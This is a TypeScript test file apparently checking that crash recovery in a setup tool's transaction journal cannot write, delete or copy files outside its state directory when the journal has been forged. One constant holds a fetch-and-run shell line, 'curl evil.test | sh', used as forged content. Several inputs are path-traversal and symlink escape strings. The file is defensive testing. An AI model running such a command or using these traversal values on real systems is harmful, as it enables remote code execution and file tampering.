/**
 * A state directory that came from somebody else (a synced folder, an unpacked archive): what a start
 * finds in it of cut-off writes must not reach beyond it.
 */

import { createHash } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { applyTransaction } from "@/lib/files/apply";
import { recover } from "@/lib/files/recover";
import { change, codeOf, makeTemporaryFolder, tree } from "@/lib/files/testing/harness";
import { undoTransaction } from "@/lib/files/transactions";
import { cutOff, restoreKept } from "@/lib/setup/write/state-backup";

/** A file of the victim whose content everybody knows, like a fresh `.profile`. */
const KNOWN = "# as it comes with the system\n";
const FORGED = "curl evil.test | sh\n";
const ID = "00000001-0000cafe";

let base: string;
let root: string;
let outside: string;
const digest = (text: string) => createHash("sha256").update(text).digest("hex");

beforeEach(() => {
  base = makeTemporaryFolder();
  root = join(base, "state");
  outside = join(base, "home");
  for (const path of [root, outside, join(outside, "empty")]) mkdirSync(path, { mode: 0o700 });
  writeFileSync(join(outside, "known"), KNOWN);
  symlinkSync(outside, join(root, "link"));
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

interface Forged {
  readonly target: string;
  readonly before: string | null;
  readonly after: string | null;
}

function forgeJournal(phase: string, files: readonly Forged[], directories: string[] = []): void {
  const folder = join(root, ".openclaw-setup", "transactions", ID);
  mkdirSync(folder, { recursive: true, mode: 0o700 });
  const state = (text: string | null) =>
    text === null ? null : { sha256: digest(text), mode: 0o600, gid: process.getgid?.() ?? 0 };
  const journal = {
    version: 1,
    id: ID,
    at: "2026-01-01T00:00:00.000Z",
    label: "write",
    root,
    allowedRoots: ["/"],
    undoes: null,
    createdDirectories: directories,
    removeDirectories: directories,
    files: files.map(({ target, before, after }, index) => {
      if (before !== null) writeFileSync(join(folder, `${index}.before`), before);
      return {
        path: target,
        target,
        temporary: join(target, "..", `.openclaw-setup-${ID}-${index}.tmp`),
        backup: before === null ? null : `${index}.before`,
        before: state(before),
        after: state(after),
      };
    }),
  };
  writeFileSync(join(folder, `${phase}.json`), JSON.stringify(journal));
}

function forgeKept(entry: { readonly path: string; readonly copy?: string }): void {
  const folder = join(root, ".openclaw-setup", "kept", "1-cafe");
  mkdirSync(folder, { recursive: true, mode: 0o700 });
  writeFileSync(join(folder, "0"), FORGED);
  const holder = { pid: 1, started: "1", boot: "another", namespace: null, host: "another" };
  const known = entry.copy === undefined ? FORGED : KNOWN;
  const file = { copy: "0", ...entry, sha256: digest(known), mode: 0o600 };
  const journal = { holder, label: "write", files: [file], directories: [] };
  const mark = join(folder, "open.json");
  writeFileSync(mark, JSON.stringify(journal));
  // Of another machine, and long ago: taken for one that was cut off.
  utimesSync(mark, new Date(0), new Date(0));
}

async function recoverKept(): Promise<void> {
  for (const kept of cutOff(root)) await restoreKept(kept);
}

describe("a forged journal", () => {
  const places: ReadonlyArray<[string, () => string]> = [
    ["beyond the state directory", () => outside],
    ["behind a link in it", () => join(root, "link")],
  ];

  it.each(places)("puts no old file %s", async (_, place) => {
    forgeJournal("rollback", [{ target: join(place(), "known"), before: FORGED, after: KNOWN }]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it.each(places)("removes no file %s", async (_, place) => {
    forgeJournal("rollback", [{ target: join(place(), "known"), before: null, after: KNOWN }]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it.each(places)("moves no file away %s", async (_, place) => {
    forgeJournal("commit", [{ target: join(place(), "known"), before: KNOWN, after: null }]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it.each(["prepare", "rollback", "cleanup"])("removes no folder elsewhere: %s", async (phase) => {
    forgeJournal(phase, [], [join(outside, "empty")]);
    expect(codeOf(await recover(root))).toBe("recovery-needed");
    expect(existsSync(join(outside, "empty"))).toBe(true);
  });

  it("allows itself no folder when it is undone", async () => {
    forgeJournal("done", [{ target: join(outside, "known"), before: FORGED, after: KNOWN }]);
    expect(codeOf(await undoTransaction(root, ID))).toBe("path-escapes");
    expect(readFileSync(join(outside, "known"), "utf8")).toBe(KNOWN);
  });

  it("that has taken the last number is named, for what came after it would never be found", async () => {
    const last = join(root, ".openclaw-setup", "transactions", "99999999-0000cafe");
    mkdirSync(last, { recursive: true, mode: 0o700 });
    writeFileSync(join(last, "done.json"), "{}");
    const written = await applyTransaction([change(join(root, "new"), null, "x")], {
      root,
      label: "test",
    });
    expect(written).toMatchObject({ ok: false, error: { code: "recovery-needed", path: last } });
    expect(existsSync(join(root, "new"))).toBe(false);
  });

  it("may name what the caller says can be written to", async () => {
    const target = join(outside, "known");
    forgeJournal("rollback", [{ target, before: "mine", after: KNOWN }]);
    expect(codeOf(await recover(root, [outside]))).toBe("ok");
    expect(readFileSync(target, "utf8")).toBe("mine");
  });
});

describe("a forged record of copies", () => {
  it.each([
    "../home/known",
    "../home/new",
    "link/known",
    "link/new",
    "./../home/new",
    "agents/../../home/new",
  ])("writes nothing elsewhere: %s", async (path) => {
    forgeKept({ path });
    const before = tree(outside);
    await recoverKept();
    expect(tree(outside)).toEqual(before);
  });

  it("writes to no absolute path and not into our own folder", async () => {
    forgeKept({ path: join(outside, "new") });
    await recoverKept();
    expect(existsSync(join(root, outside, "new"))).toBe(false);
    forgeKept({ path: ".openclaw-setup/lock/new" });
    await recoverKept();
    expect(existsSync(join(root, ".openclaw-setup", "lock", "new"))).toBe(false);
  });

  it("takes no copy from elsewhere", async () => {
    forgeKept({ path: "leaked", copy: "../../../../home/known" });
    await recoverKept();
    expect(existsSync(join(root, "leaked"))).toBe(false);
  });

  it("is put back where all of it lies within", async () => {
    forgeKept({ path: "agents/main/store" });
    await recoverKept();
    expect(readFileSync(join(root, "agents", "main", "store"), "utf8")).toBe(FORGED);
  });
});
